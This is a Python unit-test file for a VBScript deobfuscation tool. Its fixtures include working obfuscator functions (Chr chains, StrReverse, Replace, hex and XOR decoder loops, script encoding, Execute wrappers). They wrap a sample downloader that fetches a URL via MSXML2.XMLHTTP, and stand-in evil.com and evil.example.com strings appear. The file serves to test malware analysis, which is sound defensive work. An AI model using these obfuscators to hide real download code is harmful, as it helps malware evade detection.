"""VBScript peelers: Chr() chains, StrReverse, Replace, concatenation and Execute."""

from __future__ import annotations

import time

import pytest

from tests.unit.scripts.test_peelers_javascript_droppers import encoded
from tests.unit.scripts.test_peelers_languages import (
    URL,
    Obfuscator,
    assert_recovers,
    peel_all,
    rewrite,
    run,
    stack,
    stacks,
)
from wingman.core.scripts.peelers.vbscript_syntax import chain_value, expression
from wingman.core.scripts.types import Lang

PAYLOAD = (
    f'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "{URL}", False\nx.Send\n\' fetched\n'
)


def execute(text: str) -> tuple[str, list[str]]:
    return f"Execute {expression(text)}", ["vbs_execute"]


def execute_global(text: str) -> tuple[str, list[str]]:
    return f"ExecuteGlobal({expression(text)})", ["vbs_execute"]


def chr_calls(text: str) -> tuple[str, list[str]]:
    calls = [
        f"Chr(&H{ord(char):X})" if index % 3 == 0 else f"ChrW({ord(char)})" if index % 3 else ""
        for index, char in enumerate(text)
    ]
    calls = [call or f"Chr({ord(char)})" for call, char in zip(calls, text, strict=True)]
    lines = [" & ".join(calls[index : index + 12]) for index in range(0, len(calls), 12)]
    return "Execute " + " & _\n    ".join(lines), ["vbs_chr", "vbs_execute"]


def reverse(text: str) -> tuple[str, list[str]]:
    return f"Execute StrReverse({expression(text[::-1])})", ["vbs_strreverse", "vbs_execute"]


def replace(text: str) -> tuple[str, list[str]]:
    hidden = expression(text.replace("e", "~#"))
    return f'Execute Replace({hidden}, "~#", "e")', ["vbs_replace", "vbs_execute"]


def concat(text: str) -> tuple[str, list[str]]:
    pieces = [expression(text[index : index + 8]) for index in range(0, len(text), 8)]
    return "Execute " + " & ".join(pieces), ["vbs_concat", "vbs_execute"]


def evaluate(text: str) -> tuple[str, list[str]]:
    return f"x = Eval({expression(text)})", ["vbs_execute"]


def hex_loop(text: str) -> tuple[str, list[str]]:
    digits = "".join(f"{ord(char) + 3:02X}" for char in text)
    lines = [digits[index : index + 40] for index in range(0, len(digits), 40)]
    built = "\n".join(f'h = h & "{line}"' for line in lines[1:])
    return (
        f'h = "{lines[0]}"\n{built}\n'
        "For i = 1 To Len(h) Step 2\n"
        '  o = o & Chr(CInt("&H" & Mid(h, i, 2)) - 3)\n'
        "Next\nExecute o",
        ["vbs_decoder_loop"],
    )


def xor_loop(text: str) -> tuple[str, list[str]]:
    hidden = "".join(chr(ord(char) ^ 1) for char in text)
    return (
        f"s = {expression(hidden)}\n"
        "For i = 1 To Len(s): o = o & Chr(Asc(Mid(s, i, 1)) Xor 1): Next\nExecuteGlobal o",
        ["vbs_decoder_loop"],
    )


def script_encoder(text: str) -> tuple[str, list[str]]:
    return encoded(text, "VBScript.Encode"), ["vbs_script_encoder"]


OBFUSCATORS: dict[str, Obfuscator] = {
    "hex_loop": hex_loop,
    "xor_loop": xor_loop,
    "chr": chr_calls,
    "strreverse": reverse,
    "replace": replace,
    "concat": concat,
    "execute": execute,
    "execute_global": execute_global,
    "eval": evaluate,
}
_VISIBLE = {"execute", "execute_global", "eval"}


@pytest.mark.parametrize("names", stacks(list(OBFUSCATORS)), ids="+".join)
def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> None:
    text, expected = stack(PAYLOAD, [OBFUSCATORS[name] for name in names])
    assert_recovers(text, Lang.VBSCRIPT, expected, hidden=not _VISIBLE.issuperset(names))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("plain", '"plain"'),
        ('say "hi"', '"say ""hi"""'),
        ("a\r\nb\nc\rd", '"a" & vbCrLf & "b" & vbLf & "c" & vbCr & "d"'),
        ("\n", "vbLf"),
        ("", '""'),
        ("nul\x00", '"nul" & Chr(0)'),
    ],
)
def test_expression_round_trips(value: str, written: str) -> None:
    assert expression(value) == written
    resolved = chain_value(written, chars=True)
    assert resolved is not None
    assert resolved.value == value


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("s = Chr(87) & Chr(&H53) & ChrW(99)", 's = "WSc"'),
        ('CreateObject(Chr(87) & "Script." & chrw(83) + "hell")', 'CreateObject("WScript.Shell")'),
        ("x = Chr(72) & Chr(105) & vbCrLf", 'x = "Hi" & vbCrLf'),
        ("x = Chr(100 - 3) & Chr(&O101) & ChrW(&HFFFF&)", 'x = "aA\uffff"'),
        ("x = Chr(65 Xor 1)", 'x = "@"'),
        ("x = ChrW(-1)", 'x = "\uffff"'),
        ("x = Len(Chr(65) & Chr(66)) * 2", 'x = Len("AB") * 2'),
        ("x = 2 * Chr(65) & Chr(66)", 'x = 2 * "A" & "B"'),
    ],
)
def test_chr(text: str, expected: str) -> None:
    assert rewrite("vbs_chr", text) == expected


@pytest.mark.parametrize(
    "text",
    ["x = Chr(n)", "x = Chr(200)", "x = ChrW(70000)", "' Chr(65) & Chr(66)", 'x = "Chr(65)"'],
)
def test_chr_negative(text: str) -> None:
    assert rewrite("vbs_chr", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('x = StrReverse("olleh")', 'x = "hello"'),
        ('x = strreverse("b" & vbLf & "a")', 'x = "a" & vbLf & "b"'),
        ('x = StrReverse("b" & vbLf & "a") & "!"', 'x = "a" & vbLf & "b" & "!"'),
        ('x = Len(StrReverse("b" & vbLf & "a"))', 'x = Len("a" & vbLf & "b")'),
        ('x = 1 + StrReverse("b" & vbLf & "a")', 'x = 1 + ("a" & vbLf & "b")'),
    ],
)
def test_strreverse(text: str, expected: str) -> None:
    assert rewrite("vbs_strreverse", text) == expected


@pytest.mark.parametrize(
    "text", ["x = StrReverse(y)", 'x = StrReverse("a" & y)', 'REM StrReverse("x")']
)
def test_strreverse_negative(text: str) -> None:
    assert rewrite("vbs_strreverse", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('x = Replace("hxxp://a", "xx", "tt")', 'x = "http://a"'),
        ('x = Replace("aXbxc", "x", "-", 1, -1, 1)', 'x = "a-b-c"'),
        ('x = Replace("aXbxc", "x", "-", 1, -1, vbBinaryCompare)', 'x = "aXb-c"'),
        ('x = Replace("aaaa", "a", "b", 2, 2)', 'x = "bba"'),
        ('x = Replace("abc", "", "z")', 'x = "abc"'),
        ('x = Replace("abc", "b", "")', 'x = "ac"'),
    ],
)
def test_replace(text: str, expected: str) -> None:
    assert rewrite("vbs_replace", text) == expected


@pytest.mark.parametrize(
    "text",
    ['x = Replace(s, "a", "b")', 'x = Replace("abc", "a", b)', 'x = Replace("a", "a", "b", 0)'],
)
def test_replace_negative(text: str) -> None:
    assert rewrite("vbs_replace", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('u = "http://ev" & "il.com"', 'u = "http://evil.com"'),
        ('u = "a" & _\n    "b" + "c"', 'u = "abc"'),
        ('u = "a" & vbTab & "b"', 'u = "a\tb"'),
        ('u = "a" & "b" & vbLf & "c"', 'u = "ab" & vbLf & "c"'),
    ],
)
def test_concat(text: str, expected: str) -> None:
    assert rewrite("vbs_concat", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        'u = "a" & vbLf & "b"',
        'u = "a" & b & "c"',
        'u = x * "a" & "b"',
        'u = "a" & "b".Length',
        "u = 1",
    ],
)
def test_concat_negative(text: str) -> None:
    assert rewrite("vbs_concat", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('Execute "MsgBox 1"', "MsgBox 1"),
        ('ExecuteGlobal "Dim a" & vbCrLf & "a = ""x"""', 'Dim a\r\na = "x"'),
        ('x = Eval("1 + 2")', "1 + 2"),
        ('execute("WScript.Echo 1")', "WScript.Echo 1"),
    ],
)
def test_execute(text: str, expected: str) -> None:
    found = run("vbs_execute", text)
    assert [(item.content, item.language) for item in found] == [(expected, Lang.VBSCRIPT)]


@pytest.mark.parametrize(
    "text",
    [
        "Execute code",
        'Execute "a" & "b"',
        'Execute Chr(65) & "b"',
        '\' Execute "MsgBox 1"',
        'x = "Execute ""MsgBox 1"""',
        'MyExecute "MsgBox 1"',
        'Execute ""',
    ],
)
def test_execute_negative(text: str) -> None:
    assert run("vbs_execute", text) == []


def test_downloader_peels_end_to_end() -> None:
    text = 'Execute StrReverse("ebyhtap/moc.elpmaxe.live//:ptth"" = u")'
    layers, stopped = peel_all(text, Lang.VBSCRIPT)
    assert stopped is None
    assert [layer.technique for layer in layers] == ["input", "vbs_strreverse", "vbs_execute"]
    assert layers[-1].content == 'u = "http://evil.example.com/pathybe'


@pytest.mark.parametrize(
    ("wrappers", "expected"),
    [
        ([script_encoder], ["vbs_script_encoder"]),
        ([chr_calls, script_encoder], ["vbs_chr", "vbs_script_encoder"]),
        ([reverse, script_encoder], ["vbs_strreverse", "vbs_script_encoder"]),
    ],
)
def test_script_encoder_is_recovered(wrappers: list[Obfuscator], expected: list[str]) -> None:
    # A blob in a literal is decoded where it stands, so only hiding wrappers add layers.
    text, _ = stack(PAYLOAD, wrappers)
    assert_recovers(text, Lang.VBSCRIPT, expected)


def test_script_encoder_blob_keeps_the_engine_the_page_names() -> None:
    text = encoded('WScript.Echo "hi"', "JScript.Encode")
    found = run("vbs_script_encoder", text)
    assert [(item.content, item.language) for item in found] == [
        ('WScript.Echo "hi"', Lang.JAVASCRIPT)
    ]


@pytest.mark.parametrize(
    "text",
    [
        'For i = 1 To Len(h) Step 2: o = o & Chr("&H" & Mid(h, i, 2)): Next',
        'h = GetData()\nFor i = 1 To Len(h) Step 2: o = o & Chr("&H" & Mid(h, i, 2)): Next',
        'h = "zz"\nFor i = 1 To Len(h) Step 2: o = o & Chr("&H" & Mid(h, i, 2)): Next',
    ],
)
def test_decoder_loop_needs_literal_text(text: str) -> None:
    assert run("vbs_decoder_loop", text) == []


HOSTILE = {
    "decoder_loops": 'h = "41"\n' + 'o = o & Chr("&H" & Mid(h, i, 2))\n' * 5_000,
    "assignments": 'h = "41"\n' + 'h = h & "41"\n' * 20_000 + 'o = Chr("&H" & Mid(h, i, 2))',
    "open_blob": "#@~^AAAAAA==" + "x" * 200_000,
    "blob_markers": "#@~^AAAAAA==" * 10_000,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_decoder_text_peels_in_time(name: str) -> None:
    start = time.monotonic()
    layers, stopped = peel_all(HOSTILE[name], Lang.VBSCRIPT)
    assert layers[0].content == HOSTILE[name]
    assert stopped is None or "layers" in stopped
    assert time.monotonic() - start < 3
